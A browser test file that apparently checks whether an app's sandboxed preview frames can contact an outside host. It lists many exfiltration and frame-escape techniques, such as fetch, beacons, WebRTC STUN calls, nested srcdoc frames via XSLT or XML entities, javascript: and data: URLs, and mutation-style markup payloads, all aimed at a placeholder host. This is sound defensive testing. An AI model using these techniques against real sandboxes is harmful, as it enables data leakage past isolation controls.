// Every way that a page of an answer may try to reach another place, from a running one and from a still one.
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { withApp } from '../../support/browser/app-fixture.ts';
import { openOutside } from '../../support/outside.ts';

const stage = withApp(undefined, [/./]);

/** Programs; OUT is an address outside, HOST its host and port. */
const WAYS: Record<string, string> = {
  fetch: 'fetch("OUT/fetch", { mode: "no-cors" })',
  'fetch that is kept alive': 'fetch("OUT/kept", { mode: "no-cors", keepalive: true })',
  'a request': 'const r = new XMLHttpRequest(); r.open("GET", "OUT/xhr"); r.send()',
  'a beacon': 'navigator.sendBeacon("OUT/beacon", "x")',
  'an image': 'new Image().src = "OUT/image"',
  'an image of a set': 'const i = new Image(); i.srcset = "OUT/set 1x"',
  'a background': 'document.body.style.background = "url(OUT/background)"',
  'an import of styles': 'const s = document.createElement("style"); s.textContent = "@import url(OUT/style)"; add(s)',
  'a font': 'new FontFace("f", "url(OUT/font)").load()',
  'an audio': 'new Audio("OUT/audio").play()',
  'a video': 'const v = document.createElement("video"); v.poster = "OUT/poster"; v.src = "OUT/video"; add(v)',
  'a stylesheet': 'link("stylesheet")',
  prefetch: 'link("prefetch")',
  preconnect: 'link("preconnect")',
  'dns-prefetch': 'link("dns-prefetch")',
  preload: 'link("preload", { as: "image" })',
  modulepreload: 'link("modulepreload")',
  manifest: 'link("manifest")',
  icon: 'link("icon")',
  'a script': 'const s = document.createElement("script"); s.src = "OUT/script"; add(s)',
  'an import': 'import("OUT/module")',
  'a worker': 'new Worker("OUT/worker")',
  'a worker of its own':
    'new Worker(URL.createObjectURL(new Blob(["fetch(\\"OUT/w\\",{mode:\\"no-cors\\"});new WebSocket(\\"ws://HOST/w\\");try{new WebTransport(\\"https://HOST/w\\")}catch{};importScripts(\\"OUT/i\\")"])))',
  'a websocket': 'new WebSocket("ws://HOST/socket")',
  'a stream of events': 'new EventSource("OUT/events")',
  'a form': 'const f = document.createElement("form"); f.action = "OUT/form"; add(f); f.submit()',
  'a window': 'window.open("OUT/window")',
  'the window above': 'top.location = "OUT/top"',
  'a ping': 'const a = document.createElement("a"); a.href = "#x"; a.ping = "OUT/ping"; add(a); a.click()',
  'rules of speculation':
    'const s = document.createElement("script"); s.type = "speculationrules"; s.text = JSON.stringify({ prefetch: [{ urls: ["OUT/rules"] }] }); add(s)',
  'a service worker': 'navigator.serviceWorker.register("OUT/service")',
  'a call between browsers': 'rtc(window)',
  'a call between browsers by its old name':
    'const c = new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))',
  'a transport': 'new WebTransport("https://HOST/transport")',
  'a report':
    'const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "report-uri OUT/report"; document.head.append(m)',
};

/** A frame within the frame would have all that was taken away. RTC is a program that calls between browsers. */
const NESTED: Record<string, string> = {
  'srcdoc by its property': 'frame((f) => { f.srcdoc = PAGE })',
  'srcdoc by its attribute': 'frame((f) => f.setAttribute("srcdoc", PAGE))',
  'srcdoc by its node':
    'frame((f) => { const a = document.createAttribute("srcdoc"); a.value = PAGE; f.setAttributeNode(a) })',
  'srcdoc by its name space': 'frame((f) => f.setAttributeNS(null, "srcdoc", PAGE))',
  'a range': 'add(document.createRange().createContextualFragment(FRAME))',
  'a template': 'const t = document.createElement("template"); t.innerHTML = FRAME; add(t.content)',
  'a parser': 'add(document.adoptNode(new DOMParser().parseFromString(FRAME, "text/html").body.firstChild))',
  XML: 'add(document.adoptNode(new DOMParser().parseFromString(FRAME.replace("<iframe", "<iframe xmlns=\\"http://www.w3.org/1999/xhtml\\""), "text/xml").documentElement))',
  'XML with a prefix':
    'add(document.adoptNode(new DOMParser().parseFromString("<x:iframe xmlns:x=\\"http://www.w3.org/1999/xhtml\\" srcdoc=\\"" + ESCAPED + "\\"/>", "text/xml").documentElement))',
  'XML that says it elsewhere':
    'add(document.adoptNode(new DOMParser().parseFromString("<!DOCTYPE p [<!ENTITY e \\"" + ESCAPED.replaceAll("&lt;", "&#60;") + "\\">]><p>&e;</p>", "text/xml").documentElement))',
  'a transformation':
    'const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString("<xsl:stylesheet version=\\"1.0\\" xmlns:xsl=\\"http://www.w3.org/1999/XSL/Transform\\"><xsl:template match=\\"/\\"><xsl:element name=\\"{concat(\'ifr\',\'ame\')}\\"><xsl:attribute name=\\"srcdoc\\">" + ESCAPED + "</xsl:attribute></xsl:element></xsl:template></xsl:stylesheet>", "text/xml")); add(x.transformToFragment(document.implementation.createDocument("", "a"), document))',
  'a policy of its own':
    'const p = trustedTypes.createPolicy("parse", { createHTML: (t) => t }); frame((f) => { f.srcdoc = p.createHTML(PAGE) })',
  'what is written': 'Document.prototype.write.call(document, FRAME)',
  'markup that is inserted': 'document.body.insertAdjacentHTML("beforeend", FRAME)',
  'a command':
    'document.body.contentEditable = true; document.body.focus(); document.execCommand("insertHTML", false, FRAME)',
  'an address that is a script': 'frame((f) => { f.src = "javascript:" + JSON.stringify(PAGE) })',
  'its own address as a script': 'location.href = "javascript:" + JSON.stringify(PAGE)',
  'a link to a script':
    'const a = document.createElement("a"); a.href = "javascript:" + JSON.stringify(PAGE); add(a); a.dispatchEvent(new MouseEvent("click"))',
  'a page of its own': 'location.href = URL.createObjectURL(new Blob([PAGE], { type: "text/html" }))',
  'a page that is written out': 'location.href = "data:text/html," + encodeURIComponent(PAGE)',
  'a frame of its own': 'frame((f) => { f.src = URL.createObjectURL(new Blob([PAGE], { type: "text/html" })) })',
  'an empty frame': 'frame((f) => {}); setTimeout(() => rtc(document.querySelector("iframe").contentWindow))',
  'an object':
    'const o = document.createElement("object"); o.data = "data:text/html," + encodeURIComponent(PAGE); add(o)',
};

/** It leaves for another host: the browser connects before the page refuses it. */
const LEAVES: Record<string, string> = {
  'its address': 'location.href = "OUT/left"',
  'a replaced address': 'location.replace("OUT/left")',
  'a form of the way it goes': 'navigation.navigate("OUT/left")',
  'a link of its own':
    'const a = document.createElement("a"); a.href = "OUT/left"; add(a); HTMLElement.prototype.click.call(a)',
};

/** Markup alone. */
const MARKUP: Record<string, string> = {
  refresh: '<meta http-equiv="refresh" content="0;url=OUT/refresh">',
  base: '<base href="OUT/"><img src="base">',
  links:
    '<link rel="stylesheet" href="OUT/a"><link rel="preconnect" href="OUT"><link rel="prefetch" href="OUT/b"><link rel="dns-prefetch" href="OUT">',
  pictures:
    '<img src="OUT/a" srcset="OUT/b 2x"><picture><source srcset="OUT/c"><img></picture><body background="OUT/d">',
  media: '<video src="OUT/a" poster="OUT/b" autoplay></video><audio src="OUT/c" autoplay></audio>',
  styles:
    '<style>@import url(OUT/a); p { background: url(OUT/b) } @font-face { font-family: f; src: url(OUT/c) }</style><p style="font-family: f">x',
  frames:
    '<iframe src="OUT/a"></iframe><iframe srcdoc="&lt;img src=OUT/b&gt;"></iframe><object data="OUT/c"></object><embed src="OUT/d">',
  templates: '<template><iframe srcdoc="&lt;img src=OUT/a&gt;"></iframe></template>',
  noscript: '<noscript><p title="</noscript><iframe srcdoc=&lt;img/src=OUT/a&gt;>"></p></noscript>',
  pictograms: '<svg><image href="OUT/a"/><use href="OUT/b#x"/><foreignObject><img src="OUT/c"></foreignObject></svg>',
  formulas: '<math><mtext><table><mglyph><style><img src=OUT/a></style></mglyph></table></mtext></math>',
};

const HELPERS = `
  function add(node) { document.body.append(node); }
  function link(rel, more = {}) { const l = Object.assign(document.createElement('link'), { rel, href: 'OUT/' + rel }, more); document.head.append(l); }
  function frame(fill) { const f = document.createElement('iframe'); fill(f); add(f); }
  function rtc(at) { const c = new at.RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }
  const PAGE = '<script>const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); fetch("OUT/nested", { mode: "no-cors" })<' + '/script>';
  const ESCAPED = ('<iframe srcdoc="' + PAGE.replaceAll('&', '&amp;').replaceAll('"', '&quot;') + '"></iframe>').replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  const FRAME = '<iframe srcdoc="' + PAGE.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;') + '"></iframe>';
`;

function programOf(way: string, at: string): string {
  return `${HELPERS} try { ${way} } catch (error) { console.log(String(error)); }`
    .replaceAll('OUT', `http://${at}`)
    .replaceAll('HOST', at);
}

const asPage = (program: string) => `<!doctype html><body><p>Herons</p><script>{${program}}</script></body>`;

/** Milliseconds in which a packet or a connection would have come. */
const HEARD_WITHIN_MS = 700;

async function show(page: Page, file: string, code: string): Promise<void> {
  await page.evaluate(
    async ([src, code]) => {
      document.querySelector('#tried')?.remove();
      const frame = Object.assign(document.createElement('iframe'), { id: 'tried', src, sandbox: 'allow-scripts' });
      const isRunning = src.endsWith('frame.html');
      frame.setAttribute('sandbox', isRunning ? 'allow-scripts allow-forms' : 'allow-scripts');
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve, { once: true });
        document.body.append(frame);
      });
      if (!isRunning) return frame.contentWindow?.postMessage({ code, isSvg: false }, '*');
      const { port1: port, port2 } = new MessageChannel();
      await new Promise((resolve) => {
        port.onmessage = ({ data }) => {
          if (data.state === 'ready') resolve(port.postMessage({ code, kind: 'html' }));
          else window.dispatchEvent(new CustomEvent('news', { detail: data }));
        };
        frame.contentWindow?.postMessage(null, '*', [port2]);
      });
    },
    [file, code] as const,
  );
  await page.waitForTimeout(HEARD_WITHIN_MS);
}

test('outside of a frame the host hears what it should', async () => {
  const { page } = await stage.visitor();
  const { at, heard } = await openOutside();
  await page.goto('about:blank');
  for (const [name, way] of Object.entries({
    ...pick(WAYS, ['fetch', 'an image', 'a call between browsers']),
    ...pick(NESTED, ['srcdoc by its property', 'XML', 'a transformation', 'what is written']),
  })) {
    await page.setContent(asPage(programOf(way, at)));
    await page.waitForTimeout(HEARD_WITHIN_MS);
    expect(heard(), name).not.toEqual([]);
    await page.goto('about:blank');
  }
});

test('from a running page nothing gets out, and no connection is opened where it leaves for another host', async () => {
  const { page } = await stage.visitor();
  const { at, heard } = await openOutside();
  await page.goto(`${stage.app.url}/login`);
  const leaks: Record<string, string[]> = {};
  for (const [name, way] of Object.entries({ ...WAYS, ...NESTED })) {
    await show(page, '/artifact/frame.html', asPage(programOf(way, at)));
    const calls = heard();
    if (calls.length > 0) leaks[name] = calls;
  }
  for (const [name, markup] of Object.entries(MARKUP)) {
    await show(page, '/artifact/frame.html', markup.replaceAll('OUT', `http://${at}`));
    const calls = heard();
    if (calls.length > 0) leaks[name] = calls;
  }
  expect(leaks).toEqual({});
  for (const [name, way] of Object.entries(LEAVES)) {
    await show(page, '/artifact/frame.html', asPage(programOf(way, at)));
    expect(heard(), name).toEqual([]);
  }
});

test('from a still page nothing gets out at all', async () => {
  const { page } = await stage.visitor();
  const { at, heard } = await openOutside();
  await page.goto(`${stage.app.url}/login`);
  const leaks: Record<string, string[]> = {};
  const pages = Object.entries({ ...WAYS, ...NESTED, ...LEAVES }).map(
    ([name, way]) => [name, asPage(programOf(way, at))] as const,
  );
  const markups = Object.entries(MARKUP).map(
    ([name, markup]) => [name, markup.replaceAll('OUT', `http://${at}`)] as const,
  );
  for (const [name, code] of [...pages, ...markups]) {
    await show(page, '/artifact/still.html', code);
    const calls = heard();
    if (calls.length > 0) leaks[name] = calls;
  }
  expect(leaks).toEqual({});
});

test('a running page has no cookies, no storage and no page above it, and an endless one leaves the page answering', async () => {
  const { page } = await stage.visitor();
  await page.goto(`${stage.app.url}/login`);
  const told = page.evaluate(
    () =>
      new Promise((resolve) => {
        window.addEventListener('news', (event) => {
          if (event instanceof CustomEvent && event.detail.state === 'failed') resolve(event.detail.message);
        });
      }),
  );
  const tries = [
    'document.cookie',
    'indexedDB.open("x")',
    'parent.document',
    'top.location.href',
    'caches.keys()',
    'navigator.clipboard.readText()',
  ];
  await show(
    page,
    '/artifact/frame.html',
    asPage(
      `Promise.all(${JSON.stringify(tries)}.map(async (one) => { try { return String(await eval(one)) } catch (e) { return e.name } })).then((all) => { localStorage.a = 1; throw new Error(all.join() + origin + localStorage.getItem('a')) })`,
    ),
  );
  expect(await told).toMatch(/^(?:SecurityError|NotAllowedError|TypeError)(?:,\w*Error){5}null1$/);
  await show(page, '/artifact/frame.html', asPage('setTimeout(() => { for (;;); })'));
  expect(await page.evaluate(() => 1 + 1)).toBe(2);
  await page.evaluate(() => document.querySelector('#tried')?.remove());
});

function pick(ways: Record<string, string>, names: string[]): Record<string, string> {
  return Object.fromEntries(names.map((name) => [name, ways[name] ?? '']));
}
